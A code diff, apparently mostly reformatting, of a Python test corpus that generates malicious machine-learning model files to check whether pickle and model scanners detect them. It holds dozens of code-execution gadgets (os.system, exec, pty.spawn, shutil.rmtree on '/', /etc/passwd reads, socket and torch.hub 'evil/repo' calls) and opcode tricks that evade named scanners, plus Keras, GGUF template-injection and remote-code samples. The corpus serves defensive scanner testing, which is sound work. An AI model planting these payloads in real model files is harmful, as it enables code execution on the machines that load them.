@@ -50,19 +50,33 @@ _GADGETS: list[tuple[str, str, str, tuple[bytes, ...], str]] = [
     ("builtins-exec", "builtins", "exec", (_s("1"),), "classic"),
     ("builtins-import", "builtins", "__import__", (_s("os"),), "classic"),
     ("pip-main", "pip", "main", (_s("install"),), "CVE-2025-1716 (Sonatype)"),
-    ("asyncio-subprocess", "asyncio.unix_events", "_UnixSubprocessTransport", (),
-     "CVE-2025-10157 / GHSA-gx77-x2pv-48v7 (JFrog)"),
-    ("asyncio-create-subprocess-shell", "asyncio.subprocess", "create_subprocess_shell",
-     (_s("id"),), "CVE-2025-10157 class"),
-    ("timeit", "timeit", "timeit", (_s("0"), _s("__import__('os').system('id')")),
-     "GHSA-v7x6-rv5q-mhwc"),
+    (
+        "asyncio-subprocess",
+        "asyncio.unix_events",
+        "_UnixSubprocessTransport",
+        (),
+        "CVE-2025-10157 / GHSA-gx77-x2pv-48v7 (JFrog)",
+    ),
+    (
+        "asyncio-create-subprocess-shell",
+        "asyncio.subprocess",
+        "create_subprocess_shell",
+        (_s("id"),),
+        "CVE-2025-10157 class",
+    ),
+    (
+        "timeit",
+        "timeit",
+        "timeit",
+        (_s("0"), _s("__import__('os').system('id')")),
+        "GHSA-v7x6-rv5q-mhwc",
+    ),
     ("cprofile-run", "cProfile", "run", (_s("print(1)"),), "GHSA-46h3-79wf-xr6c"),
     ("profile-run", "profile", "run", (_s("print(1)"),), "GHSA-46h3-79wf-xr6c"),
     ("pdb-run", "pdb", "run", (_s("print(1)"),), "GHSA-4675-36f9-wf6r"),
     ("bdb-run", "bdb", "Bdb", (), "GHSA-4675-36f9-wf6r"),
     ("trace-run", "trace", "Trace", (), "GHSA-4675-36f9-wf6r"),
-    ("doctest-debug-script", "doctest", "debug_script", (_s("print(1)"),),
-     "GHSA-4675-36f9-wf6r"),
+    ("doctest-debug-script", "doctest", "debug_script", (_s("print(1)"),), "GHSA-4675-36f9-wf6r"),
     ("pydoc-pipepager", "pydoc", "pipepager", (_s("x"), _s("id")), "picklescan pydoc.pipepager"),
     ("pyrepl-pager", "_pyrepl.pager", "pipe_pager", (_s("x"), _s("id")), "CVE-2026-56315"),
     ("uuid-cmd", "uuid", "_get_command_stdout", (_s("id"),), "CVE-2026-56315"),
@@ -71,58 +85,115 @@ _GADGETS: list[tuple[str, str, str, tuple[bytes, ...], str]] = [
     ("aix-support", "_aix_support", "_read_cmd_output", (_s("id"),), "CVE-2026-56315"),
     ("lib2to3", "lib2to3.pgen2.grammar", "Grammar", (), "GHSA-r8g5-cgf2-4m4m"),
     ("idlelib", "idlelib.pyshell", "ModifiedInterpreter", (), "GHSA-r8g5-cgf2-4m4m"),
-    ("torch-bottleneck", "torch.utils.bottleneck.__main__", "run_cprofile",
-     (_s("print(1)"), p.EMPTY_DICT), "protectai/modelscan#313 (torch.utils.bottleneck)"),
-    ("numpy-f2py", "numpy.f2py.crackfortran", "getlincoef", (_s("x"), p.EMPTY_DICT),
-     "trailofbits/fickling#210 (numpy.f2py)"),
-    ("distutils-write-file", "distutils.file_util", "write_file", (_s("/tmp/x"), _s("y")),
-     "CVE-2025-10155"),
+    (
+        "torch-bottleneck",
+        "torch.utils.bottleneck.__main__",
+        "run_cprofile",
+        (_s("print(1)"), p.EMPTY_DICT),
+        "protectai/modelscan#313 (torch.utils.bottleneck)",
+    ),
+    (
+        "numpy-f2py",
+        "numpy.f2py.crackfortran",
+        "getlincoef",
+        (_s("x"), p.EMPTY_DICT),
+        "trailofbits/fickling#210 (numpy.f2py)",
+    ),
+    (
+        "distutils-write-file",
+        "distutils.file_util",
+        "write_file",
+        (_s("/tmp/x"), _s("y")),
+        "CVE-2025-10155",
+    ),
     ("ctypes-cdll", "ctypes", "CDLL", (_s("libc.so.6"),), "ctypes native code"),
-    ("code-interpreter", "code", "InteractiveInterpreter", (),
-     "protectai/modelscan#313 (code.InteractiveInterpreter.runcode)"),
+    (
+        "code-interpreter",
+        "code",
+        "InteractiveInterpreter",
+        (),
+        "protectai/modelscan#313 (code.InteractiveInterpreter.runcode)",
+    ),
     ("io-fileio", "_io", "FileIO", (_s("/etc/passwd"),), "fickling UnsafeImportsML (_io.FileIO)"),
-    ("importlib-import-module", "importlib", "import_module", (_s("os"),),
-     "mmaitre314/picklescan#74"),
-    ("marshal-loads", "marshal", "loads", (p.short_binbytes(b"\xe3"),),
-     "mmaitre314/picklescan#74"),
-    ("pkgutil-resolve-name", "pkgutil", "resolve_name", (_s("os:system"),),
-     "GHSA-vvpj-8cmc-gx39 (universal bypass)"),
+    (
+        "importlib-import-module",
+        "importlib",
+        "import_module",
+        (_s("os"),),
+        "mmaitre314/picklescan#74",
+    ),
+    ("marshal-loads", "marshal", "loads", (p.short_binbytes(b"\xe3"),), "mmaitre314/picklescan#74"),
+    (
+        "pkgutil-resolve-name",
+        "pkgutil",
+        "resolve_name",
+        (_s("os:system"),),
+        "GHSA-vvpj-8cmc-gx39 (universal bypass)",
+    ),
     ("operator-attrgetter", "operator", "attrgetter", (_s("system"),), "GHSA-m273-6v24-x4m4"),
-    ("operator-methodcaller", "_operator", "methodcaller", (_s("system"),),
-     "GHSA-955r-x9j8-7rhh"),
-    ("pickle-loads", "pickle", "loads", (p.short_binbytes(b"\x80\x02N."),),
-     "GHSA-84r2-jw7c-4r5q (nested pickle)"),
+    ("operator-methodcaller", "_operator", "methodcaller", (_s("system"),), "GHSA-955r-x9j8-7rhh"),
+    (
+        "pickle-loads",
+        "pickle",
+        "loads",
+        (p.short_binbytes(b"\x80\x02N."),),
+        "GHSA-84r2-jw7c-4r5q (nested pickle)",
+    ),
     ("ensurepip", "ensurepip", "_run_pip", (p.EMPTY_TUPLE,), "GHSA-xp4f-hrf8-rxw7"),
     ("venv", "venv", "create", (_s("/tmp/v"),), "GHSA-vqmv-47xg-9wpr"),
     ("ssl-cert", "ssl", "get_server_certificate", (_s("x"),), "GHSA-hgrh-qx5j-jfwx"),
     ("http-client", "http.client", "HTTPConnection", (_s("x"),), "GHSA-hgrh-qx5j-jfwx"),
     ("requests-get", "requests", "get", (_s("http://x"),), "GHSA-hgrh-qx5j-jfwx"),
     ("logging-filehandler", "logging", "FileHandler", (_s("/tmp/x"),), "CVE-2026-56304"),
-    ("mailcap-findmatch", "mailcap", "findmatch", (p.EMPTY_DICT, _s("text/plain")),
-     "protectai/modelscan#346"),
+    (
+        "mailcap-findmatch",
+        "mailcap",
+        "findmatch",
+        (p.EMPTY_DICT, _s("text/plain")),
+        "protectai/modelscan#346",
+    ),
     ("interpreters", "_interpreters", "create", (), "fickling GHSA-6ggj-6f2q-f7mx"),
     ("posixsubprocess", "_posixsubprocess", "fork_exec", (), "fickling GHSA-m6fh-58r7-x697"),
     ("site-addsitedir", "site", "addsitedir", (_s("/tmp"),), "fickling GHSA-m6fh-58r7-x697"),
     ("atexit", "atexit", "register", (_s("x"),), "fickling GHSA-m6fh-58r7-x697"),
     ("torch-load", "torch", "load", (_s("x.pt"),), "nested torch.load"),
     ("torch-hub", "torch.hub", "load", (_s("evil/repo"), _s("m")), "fickling UnsafeImportsML"),
-    ("torch-load-from-bytes", "torch.storage", "_load_from_bytes",
-     (p.short_binbytes(b"\x80\x02N."),), "fickling UnsafeImportsML"),
-    ("torch-dynamo-guard", "torch._dynamo.guards", "GuardBuilder", (),
-     "protectai/modelscan#313"),
-    ("torch-fx-shapes", "torch.fx.experimental.symbolic_shapes", "ShapeEnv", (),
-     "protectai/modelscan#313"),
+    (
+        "torch-load-from-bytes",
+        "torch.storage",
+        "_load_from_bytes",
+        (p.short_binbytes(b"\x80\x02N."),),
+        "fickling UnsafeImportsML",
+    ),
+    ("torch-dynamo-guard", "torch._dynamo.guards", "GuardBuilder", (), "protectai/modelscan#313"),
+    (
+        "torch-fx-shapes",
+        "torch.fx.experimental.symbolic_shapes",
+        "ShapeEnv",
+        (),
+        "protectai/modelscan#313",
+    ),
     ("numpy-load", "numpy", "load", (_s("x.npy"),), "nested numpy.load"),
-    ("numpy-runstring", "numpy.testing._private.utils", "runstring", (_s("1"), p.EMPTY_DICT),
-     "fickling UnsafeImportsML"),
+    (
+        "numpy-runstring",
+        "numpy.testing._private.utils",
+        "runstring",
+        (_s("1"), p.EMPTY_DICT),
+        "fickling UnsafeImportsML",
+    ),
     ("types-codetype", "types", "CodeType", (), "code object construction"),
     ("types-functiontype", "types", "FunctionType", (), "function construction"),
     ("webbrowser", "webbrowser", "open", (_s("http://x"),), "classic"),
     ("shutil-rmtree", "shutil", "rmtree", (_s("/"),), "protectai/modelscan#198"),
     ("runpy", "runpy", "run_path", (_s("/tmp/x.py"),), "classic"),
     ("socket", "socket", "create_connection", (_s("x"),), "reverse shell staging"),
-    ("commands-py2", "commands", "getoutput", (_s("id"),),
-     "Python 2 name remapped to subprocess by fix_imports"),
+    (
+        "commands-py2",
+        "commands",
+        "getoutput",
+        (_s("id"),),
+        "Python 2 name remapped to subprocess by fix_imports",
+    ),
     ("builtins-getattr", "builtins", "getattr", (p.NONE, _s("x")), "attribute traversal"),
 ]
 
@@ -138,45 +209,113 @@ def _gadget_samples() -> list[Sample]:
 def _memo_confusion() -> bytes:
     # picklescan#14 (Doyensec 2023): BINPUT and MEMOIZE mixed so a naive memo model resolves the
     # STACK_GLOBAL operands to torch._utils while the unpickler sees os.system.
-    return (p.proto(4) + p.su("os") + p.binput(0) + p.su("system") + p.binput(1)
-            + p.su("torch._utils") + p.MEMOIZE + p.su("_rebuild_tensor_v2") + p.MEMOIZE
-            + p.POP + p.POP + p.POP + p.POP + p.binget(0) + p.binget(1) + p.STACK_GLOBAL
-            + p.su("id") + p.TUPLE1 + p.REDUCE + p.STOP)
+    return (
+        p.proto(4)
+        + p.su("os")
+        + p.binput(0)
+        + p.su("system")
+        + p.binput(1)
+        + p.su("torch._utils")
+        + p.MEMOIZE
+        + p.su("_rebuild_tensor_v2")
+        + p.MEMOIZE
+        + p.POP
+        + p.POP
+        + p.POP
+        + p.POP
+        + p.binget(0)
+        + p.binget(1)
+        + p.STACK_GLOBAL
+        + p.su("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _stack_global_binunicode8() -> bytes:
-    return (p.proto(4) + p.bu8("os") + p.bu("system") + p.STACK_GLOBAL + p.su("id") + p.TUPLE1
-            + p.REDUCE + p.STOP)
+    return (
+        p.proto(4)
+        + p.bu8("os")
+        + p.bu("system")
+        + p.STACK_GLOBAL
+        + p.su("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _stack_global_unicode_nl() -> bytes:
-    return (p.proto(4) + p.unicode_nl("os") + p.unicode_nl("system") + p.STACK_GLOBAL
-            + p.unicode_nl("id") + p.TUPLE1 + p.REDUCE + p.STOP)
+    return (
+        p.proto(4)
+        + p.unicode_nl("os")
+        + p.unicode_nl("system")
+        + p.STACK_GLOBAL
+        + p.unicode_nl("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _stack_global_binstring() -> bytes:
     # protectai/modelscan#313: STACK_GLOBAL fed by classic STRING / SHORT_BINSTRING opcodes
-    return (p.proto(4) + b"U\x02os" + b"T\x06\x00\x00\x00system" + p.STACK_GLOBAL
-            + p.string_nl("id") + p.TUPLE1 + p.REDUCE + p.STOP)
+    return (
+        p.proto(4)
+        + b"U\x02os"
+        + b"T\x06\x00\x00\x00system"
+        + p.STACK_GLOBAL
+        + p.string_nl("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _dynamic_stack_global() -> bytes:
     # non-string STACK_GLOBAL operands: the module name is computed by a call at load time
-    return (p.proto(4) + p.global_("builtins", "str") + p.su("os") + p.TUPLE1 + p.REDUCE
-            + p.su("system") + p.STACK_GLOBAL + p.su("id") + p.TUPLE1 + p.REDUCE + p.STOP)
+    return (
+        p.proto(4)
+        + p.global_("builtins", "str")
+        + p.su("os")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.su("system")
+        + p.STACK_GLOBAL
+        + p.su("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _partial_wrapper(module: str, name: str) -> Callable[[], bytes]:
     # trailofbits/fickling#210: the dangerous callable hides inside functools.partial(func, arg),
     # and the partial object is what REDUCE calls
-    return lambda: (p.proto(4) + p.global_("functools", "partial") + p.global_(module, name)
-                    + p.su("id") + p.TUPLE2 + p.REDUCE + p.EMPTY_TUPLE + p.REDUCE + p.STOP)
+    return lambda: (
+        p.proto(4)
+        + p.global_("functools", "partial")
+        + p.global_(module, name)
+        + p.su("id")
+        + p.TUPLE2
+        + p.REDUCE
+        + p.EMPTY_TUPLE
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _nullifai_broken() -> bytes:
     # ReversingLabs "nullifAI" (Feb 2025): payload first, then a stream that fails to parse
-    return p.proto(2) + p.global_("os", "system") + p.string_nl("id") + p.TUPLE1 + p.REDUCE + \
-        b"\xff\xfe broken"
+    return (
+        p.proto(2)
+        + p.global_("os", "system")
+        + p.string_nl("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + b"\xff\xfe broken"
+    )
 
 
 def _after_stop() -> bytes:
@@ -185,20 +324,49 @@ def _after_stop() -> bytes:
 
 def _pop_result() -> bytes:
     # promptfoo/ModelAudit vs fickling: the call result is POPped so it leaves no AST trace
-    return (p.proto(2) + p.global_("os", "system") + p.string_nl("id") + p.TUPLE1 + p.REDUCE
-            + p.POP + p.EMPTY_DICT + p.STOP)
+    return (
+        p.proto(2)
+        + p.global_("os", "system")
+        + p.string_nl("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.POP
+        + p.EMPTY_DICT
+        + p.STOP
+    )
 
 
 def _setstate_build() -> bytes:
     # __setstate__ hijack via BUILD slot state (fickling GHSA-6ggj-6f2q-f7mx PoC style)
-    return (p.proto(2) + p.global_("collections", "OrderedDict") + p.EMPTY_TUPLE + p.REDUCE
-            + p.NONE + p.EMPTY_DICT + p.su("__setstate__") + p.global_("os", "system")
-            + p.SETITEM + p.TUPLE2 + p.BUILD + p.su("id") + p.BUILD + p.STOP)
+    return (
+        p.proto(2)
+        + p.global_("collections", "OrderedDict")
+        + p.EMPTY_TUPLE
+        + p.REDUCE
+        + p.NONE
+        + p.EMPTY_DICT
+        + p.su("__setstate__")
+        + p.global_("os", "system")
+        + p.SETITEM
+        + p.TUPLE2
+        + p.BUILD
+        + p.su("id")
+        + p.BUILD
+        + p.STOP
+    )
 
 
 def _build_on_global() -> bytes:
-    return (p.proto(2) + p.global_("torch._utils", "_rebuild_tensor_v2") + p.EMPTY_DICT
-            + p.su("__code__") + p.NONE + p.SETITEM + p.BUILD + p.STOP)
+    return (
+        p.proto(2)
+        + p.global_("torch._utils", "_rebuild_tensor_v2")
+        + p.EMPTY_DICT
+        + p.su("__code__")
+        + p.NONE
+        + p.SETITEM
+        + p.BUILD
+        + p.STOP
+    )
 
 
 def _ext_opcode() -> bytes:
@@ -207,7 +375,7 @@ def _ext_opcode() -> bytes:
 
 def _inst_pty() -> bytes:
     # trailofbits/fickling#108: OBJ opcode with pty.spawn
-    return b"(cpty\nspawn\nS\"id\"\no."
+    return b'(cpty\nspawn\nS"id"\no.'
 
 
 def _inst_opcode() -> bytes:
@@ -216,13 +384,29 @@ def _inst_opcode() -> bytes:
 
 def _global_attr_chain() -> bytes:
     # fickling GHSA-q5qq-mvfm-j35x class: dangerous callable reached through an allowed package
-    return (p.proto(4) + p.su("torch.serialization") + p.su("os.system") + p.STACK_GLOBAL
-            + p.su("id") + p.TUPLE1 + p.REDUCE + p.STOP)
+    return (
+        p.proto(4)
+        + p.su("torch.serialization")
+        + p.su("os.system")
+        + p.STACK_GLOBAL
+        + p.su("id")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _dunder_builtins() -> bytes:
-    return (p.proto(4) + p.su("builtins") + p.su("__builtins__.eval") + p.STACK_GLOBAL
-            + p.su("1") + p.TUPLE1 + p.REDUCE + p.STOP)
+    return (
+        p.proto(4)
+        + p.su("builtins")
+        + p.su("__builtins__.eval")
+        + p.STACK_GLOBAL
+        + p.su("1")
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _sys_modules() -> bytes:
@@ -230,15 +414,28 @@ def _sys_modules() -> bytes:
 
 
 def _nested_bytes_pickle() -> bytes:
-    return p.proto(4) + p.stack_global("pickle", "loads") + p.binbytes(p.os_system()) + \
-        p.TUPLE1 + p.REDUCE + p.STOP
+    return (
+        p.proto(4)
+        + p.stack_global("pickle", "loads")
+        + p.binbytes(p.os_system())
+        + p.TUPLE1
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _nested_latin1_pickle() -> bytes:
     # protocol 2 bytes are _codecs.encode(latin1 text): a pickle hidden in a unicode string
     inner = p.os_system(protocol=2).decode("latin1")
-    return (p.proto(2) + p.global_("_codecs", "encode") + p.bu(inner) + p.su("latin1")
-            + p.TUPLE2 + p.REDUCE + p.STOP)
+    return (
+        p.proto(2)
+        + p.global_("_codecs", "encode")
+        + p.bu(inner)
+        + p.su("latin1")
+        + p.TUPLE2
+        + p.REDUCE
+        + p.STOP
+    )
 
 
 def _frame_hidden() -> bytes:
@@ -247,19 +444,24 @@ def _frame_hidden() -> bytes:
 
 
 def _protocol0_memo() -> bytes:
-    return (b"Vos\np0\n0Vsystem\np1\n0" + b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n"
-            + b"(g0\ntRg1\ntR(S'id'\ntR.")
+    return (
+        b"Vos\np0\n0Vsystem\np1\n0"
+        + b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n"
+        + b"(g0\ntRg1\ntR(S'id'\ntR."
+    )
 
 
 # -- containers ------------------------------------------------------------------------------------
 def _zip_crc() -> bytes:
-    return _patch(_patch(_torch_zip(EVIL2), b"PK\x01\x02", 16, b"\0\0\0\0"), b"PK\x03\x04", 14,
-                  b"\0\0\0\0")
+    return _patch(
+        _patch(_torch_zip(EVIL2), b"PK\x01\x02", 16, b"\0\0\0\0"), b"PK\x03\x04", 14, b"\0\0\0\0"
+    )
 
 
 def _zip_flag_bits() -> bytes:
-    return _patch(_patch(_torch_zip(EVIL2), b"PK\x01\x02", 8, b"\x01\x00"), b"PK\x03\x04", 6,
-                  b"\x01\x00")
+    return _patch(
+        _patch(_torch_zip(EVIL2), b"PK\x01\x02", 8, b"\x01\x00"), b"PK\x03\x04", 6, b"\x01\x00"
+    )
 
 
 def _zip_name_mismatch() -> bytes:
@@ -314,16 +516,33 @@ def _torch_legacy() -> bytes:
 
 
 def _keras_lambda() -> bytes:
-    cfg = {"module": "keras", "class_name": "Sequential", "config": {"layers": [
-        {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {
-            "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}]}}
-    return _zip({"metadata.json": b"{}", "config.json": json.dumps(cfg).encode(),
-                 "model.weights.h5": b""})
+    cfg = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {
+            "layers": [
+                {
+                    "module": "keras.layers",
+                    "class_name": "Lambda",
+                    "config": {
+                        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}
+                    },
+                }
+            ]
+        },
+    }
+    return _zip(
+        {"metadata.json": b"{}", "config.json": json.dumps(cfg).encode(), "model.weights.h5": b""}
+    )
 
 
 def _keras_module_gadget() -> bytes:
-    fn = {"module": "subprocess", "class_name": "function", "config": "check_output",
-          "registered_name": "function"}
+    fn = {
+        "module": "subprocess",
+        "class_name": "function",
+        "config": "check_output",
+        "registered_name": "function",
+    }
     cfg = {"module": "keras.layers", "class_name": "Dense", "config": {"activation": fn}}
     return _zip({"metadata.json": b"{}", "config.json": json.dumps(cfg).encode()})
 
@@ -334,8 +553,13 @@ def _gguf_ssti() -> bytes:
         return struct.pack("<Q", len(b)) + b
 
     tpl = "{{ ().__class__.__base__.__subclasses__() }}"
-    return (b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + s("tokenizer.chat_template")
-            + struct.pack("<I", 8) + s(tpl))
+    return (
+        b"GGUF"
+        + struct.pack("<IQQ", 3, 0, 1)
+        + s("tokenizer.chat_template")
+        + struct.pack("<I", 8)
+        + s(tpl)
+    )
 
 
 def _onnx_traversal() -> bytes:
@@ -354,21 +578,26 @@ def _python_remote_code() -> bytes:
 
 SAMPLES: list[Sample] = [
     *_gadget_samples(),
-    Sample("gadget-functools-partial", "trailofbits/fickling#210 (functools.partial wrapper)",
-           _partial_wrapper("os", "system")),
+    Sample(
+        "gadget-functools-partial",
+        "trailofbits/fickling#210 (functools.partial wrapper)",
+        _partial_wrapper("os", "system"),
+    ),
     Sample("memo-confusion", "mmaitre314/picklescan#14 (Doyensec)", _memo_confusion),
     Sample("stack-global-binunicode8", "STACK_GLOBAL operand variants", _stack_global_binunicode8),
     Sample("stack-global-unicode-nl", "STACK_GLOBAL operand variants", _stack_global_unicode_nl),
     Sample("stack-global-binstring", "protectai/modelscan#313", _stack_global_binstring),
-    Sample("stack-global-dynamic", "protectai/modelscan#313 (non-string operands)",
-           _dynamic_stack_global),
+    Sample(
+        "stack-global-dynamic",
+        "protectai/modelscan#313 (non-string operands)",
+        _dynamic_stack_global,
+    ),
     Sample("nullifai-broken-pickle", "ReversingLabs nullifAI 2025", _nullifai_broken),
-    Sample("pickle-after-stop", "concatenated pickles (joblib/legacy torch load several)",
-           _after_stop),
-    Sample("pop-call-result", "promptfoo ModelAudit: fickling AST drops POPped calls",
-           _pop_result),
-    Sample("setstate-build", "fickling GHSA-6ggj-6f2q-f7mx (BUILD/__setstate__)",
-           _setstate_build),
+    Sample(
+        "pickle-after-stop", "concatenated pickles (joblib/legacy torch load several)", _after_stop
+    ),
+    Sample("pop-call-result", "promptfoo ModelAudit: fickling AST drops POPped calls", _pop_result),
+    Sample("setstate-build", "fickling GHSA-6ggj-6f2q-f7mx (BUILD/__setstate__)", _setstate_build),
     Sample("build-on-global", "BUILD on an imported function", _build_on_global),
     Sample("ext-opcode", "copyreg extension registry (EXT1)", _ext_opcode),
     Sample("obj-pty-spawn", "trailofbits/fickling#108", _inst_pty),
@@ -377,34 +606,67 @@ SAMPLES: list[Sample] = [
     Sample("dunder-builtins", "builtins.__builtins__ traversal", _dunder_builtins),
     Sample("sys-modules", "sys.modules", _sys_modules),
     Sample("nested-bytes-pickle", "GHSA-84r2-jw7c-4r5q", _nested_bytes_pickle),
-    Sample("nested-latin1-pickle", "protocol 2 _codecs.encode hidden pickle",
-           _nested_latin1_pickle),
+    Sample(
+        "nested-latin1-pickle", "protocol 2 _codecs.encode hidden pickle", _nested_latin1_pickle
+    ),
     Sample("frame-wrapped", "protocol 4 FRAME", _frame_hidden),
     Sample("protocol0-memo", "protocol 0 PUT/GET + getattr(__import__)", _protocol0_memo),
-    Sample("nonstandard-extension", "CVE-2025-1889 / GHSA-769v-p64c-89pr",
-           lambda: EVIL2, name="weights.bin"),
+    Sample(
+        "nonstandard-extension",
+        "CVE-2025-1889 / GHSA-769v-p64c-89pr",
+        lambda: EVIL2,
+        name="weights.bin",
+    ),
     Sample("zip-crc", "CVE-2025-10156 (JFrog)", _zip_crc, "model.pt", "archive"),
-    Sample("zip-flag-bits", "CVE-2025-1945 / GHSA-w8jq-xcqf-f792", _zip_flag_bits, "model.pt",
-           "archive"),
-    Sample("zip-name-mismatch", "CVE-2025-1944 / GHSA-7q5r-7gvp-wc82", _zip_name_mismatch,
-           "model.pt", "archive"),
-    Sample("zip-extra-member", "GHSA-769v-p64c-89pr (pickle in a non-.pkl member)",
-           _zip_odd_member_name, "model.pt", "archive"),
-    Sample("zip-prepended", "prepended data before the zip", _zip_prepended, "model.pt",
-           "archive"),
+    Sample(
+        "zip-flag-bits",
+        "CVE-2025-1945 / GHSA-w8jq-xcqf-f792",
+        _zip_flag_bits,
+        "model.pt",
+        "archive",
+    ),
+    Sample(
+        "zip-name-mismatch",
+        "CVE-2025-1944 / GHSA-7q5r-7gvp-wc82",
+        _zip_name_mismatch,
+        "model.pt",
+        "archive",
+    ),
+    Sample(
+        "zip-extra-member",
+        "GHSA-769v-p64c-89pr (pickle in a non-.pkl member)",
+        _zip_odd_member_name,
+        "model.pt",
+        "archive",
+    ),
+    Sample("zip-prepended", "prepended data before the zip", _zip_prepended, "model.pt", "archive"),
     Sample("zip-duplicate", "duplicate entry names", _zip_duplicate, "model.pt", "archive"),
-    Sample("7z-torch", "ReversingLabs nullifAI (7z-compressed PyTorch)", _seven_zip_torch,
-           "model.7z", "archive"),
+    Sample(
+        "7z-torch",
+        "ReversingLabs nullifAI (7z-compressed PyTorch)",
+        _seven_zip_torch,
+        "model.7z",
+        "archive",
+    ),
     Sample("gzip-pickle", "compressed wrapper", _gzip_pickle, "model.pkl.gz", "archive"),
     Sample("npy-object", "numpy allow_pickle object array", _npy_object, "arr.npy", "other"),
-    Sample("torch-legacy", "torch.save(_use_new_zipfile_serialization=False)", _torch_legacy,
-           "model.pth", "pickle"),
+    Sample(
+        "torch-legacy",
+        "torch.save(_use_new_zipfile_serialization=False)",
+        _torch_legacy,
+        "model.pth",
+        "pickle",
+    ),
     Sample("keras-lambda", "CVE-2024-3660", _keras_lambda, "model.keras", "other"),
     Sample("keras-module-gadget", "CVE-2025-1550", _keras_module_gadget, "model.keras", "other"),
-    Sample("gguf-ssti", "CVE-2024-34359 / GHSA-56xg-wfcc-g829", _gguf_ssti, "model.gguf",
-           "other"),
+    Sample("gguf-ssti", "CVE-2024-34359 / GHSA-56xg-wfcc-g829", _gguf_ssti, "model.gguf", "other"),
     Sample("onnx-traversal", "CVE-2022-25882", _onnx_traversal, "model.onnx", "other"),
-    Sample("remote-code", "trust_remote_code modelling file", _python_remote_code,
-           "modeling_evil.py", "other"),
+    Sample(
+        "remote-code",
+        "trust_remote_code modelling file",
+        _python_remote_code,
+        "modeling_evil.py",
+        "other",
+    ),
     *LOADER_SAMPLES,
 ]
